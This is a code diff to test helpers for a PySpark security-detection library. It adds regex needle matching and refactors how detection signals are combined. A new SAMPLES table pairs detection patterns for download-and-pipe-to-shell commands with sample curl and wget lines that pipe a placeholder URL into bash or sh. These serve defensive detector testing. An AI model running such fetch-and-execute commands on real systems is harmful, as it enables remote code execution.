@@ -8,7 +8,7 @@ from pyspark.sql import functions as F
 from sigloom.functions.scalars import decoded_command, process_key
 from sigloom.operators import correlate, packs, proctree, ransomware, reports, rules
 from sigloom.plans.behaviour import _WINDOWS, BURST, SEC
-from sigloom.plans.fixtures import sec_events
+from sigloom.plans.fixtures import scratch, sec_events
 from sigloom.sources.parsers import task_name
 
 DAY = 86400
@@ -18,19 +18,31 @@ def _q(text: str) -> str:
     return "'" + text.replace("'", "''") + "'"
 
 
+SAMPLES = {r"re:curl.*\|.*bash": "curl -s http://x |bash -x", r"re:wget.*\|.*sh": "wget -qO- http://x| sh"}
+
+
+def _flat_texts(pack: str) -> list[str]:
+    """A text for each needle of a pack: the needle, or what its pattern finds."""
+    return [SAMPLES.get(n, n) for v in packs.PACKS[pack].values() for n in v]
+
+
+def _needle_sql(needle: str) -> str:
+    return f"regexp_matches(c, {_q(needle[3:])})" if needle.startswith("re:") else f"contains(c, {_q(needle)})"
+
+
 def _with_text(events: DataFrame, pack: str) -> DataFrame:
-    """Command lines built from a pack: needles i and i+1 of the flat list, i = k % n; every third row has none."""
-    flat = [n for v in packs.PACKS[pack].values() for n in v]
+    """Command lines built from a pack: texts i and i+1 of the flat list, i = k % n; every third row has none."""
+    flat = _flat_texts(pack)
     item = lambda shift: F.element_at(F.array(*[F.lit(n) for n in flat]), (F.pmod(F.col("k") + shift, F.lit(len(flat))) + 1).cast("int"))
     text = F.when(F.col("k") % 3 == 0, F.lit("nothing here")).otherwise(F.concat_ws(" ;; ", item(0), item(1)))
     return events.filter("event_type = 'process'").withColumn("command_line", text)
 
 
 def _pack_sql(pack: str) -> str:
-    flat = [n for v in packs.PACKS[pack].values() for n in v]
+    flat = _flat_texts(pack)
     array = "[" + ", ".join(map(_q, flat)) + "]"
     text = f"CASE WHEN k % 3 = 0 THEN 'nothing here' ELSE {array}[k % {len(flat)} + 1] || ' ;; ' || {array}[(k + 1) % {len(flat)} + 1] END"
-    hits = ", ".join(f"CASE WHEN {' OR '.join(f'contains(c, {_q(n)})' for n in v)} THEN {_q(s)} END" for s, v in packs.PACKS[pack].items())
+    hits = ", ".join(f"CASE WHEN {' OR '.join(map(_needle_sql, v))} THEN {_q(s)} END" for s, v in packs.PACKS[pack].items())
     return f"""SELECT event_id, host, {_q(pack)} AS pack, array_to_string(s, ',') AS selections, round(least(1.0, 0.6 + 0.1 * len(s)), 6) AS score
 FROM (SELECT *, list_filter([{hits}], lambda v: v IS NOT NULL) AS s FROM (SELECT *, {text} AS c FROM sec WHERE event_type = 'process')) WHERE len(s) > 0"""
 
@@ -165,7 +177,7 @@ def proc_children(spark, sf_dir):
 
 
 def proc_ancestors(spark, sf_dir):
-    return proctree.ancestors(tree(spark, sf_dir)).select("host", "pid", F.array_join(F.col("chain").cast("array<string>"), ">").alias("chain"))
+    return proctree.ancestors(tree(spark, sf_dir), scratch(spark)).select("host", "pid", F.array_join(F.col("chain").cast("array<string>"), ">").alias("chain"))
 
 
 def spawn_report(spark, sf_dir):
@@ -201,11 +213,10 @@ def signals(spark, sf_dir) -> DataFrame:
 
 
 def _signals(events: DataFrame):
-    cols = ("event_id", "host", "signal_type", "score", "tactic", "technique")
-    lotl = lambda: rules.lotl_cmdline(events).withColumn("signal_type", F.concat(F.lit("lotl."), F.col("rule_id")))
-    task = lambda: rules.lotl_eventid(events.filter("event_type = 'process'"), F.lit(None).cast("string"))
-    ps = lambda: rules.ps_detectors(events).withColumns({"tactic": F.lit(""), "technique": F.lit("T1059.001")})
-    return correlate.union_layers([("lotl", lotl), ("task", task), ("ps", ps)], cols)
+    named = lambda hits: F.transform(hits, lambda h: F.struct(F.concat(F.lit("lotl."), h["rule_id"]).alias("signal_type"), h["score"].alias("score"), h["tactic"].alias("tactic"), h["technique"].alias("technique")))
+    script = lambda hits: F.transform(hits, lambda h: F.struct(h["signal_type"].alias("signal_type"), h["score"].alias("score"), F.lit("").alias("tactic"), F.lit("T1059.001").alias("technique")))
+    process = lambda hits: F.filter(hits, lambda _: F.col("event_type") == "process")
+    return correlate.union_layers(events, [("lotl", lambda: named(rules.lotl_hits())), ("task", lambda: process(rules.task_hits())), ("ps", lambda: script(rules.ps_hits()))])
 
 
 def signal_union(spark, sf_dir):
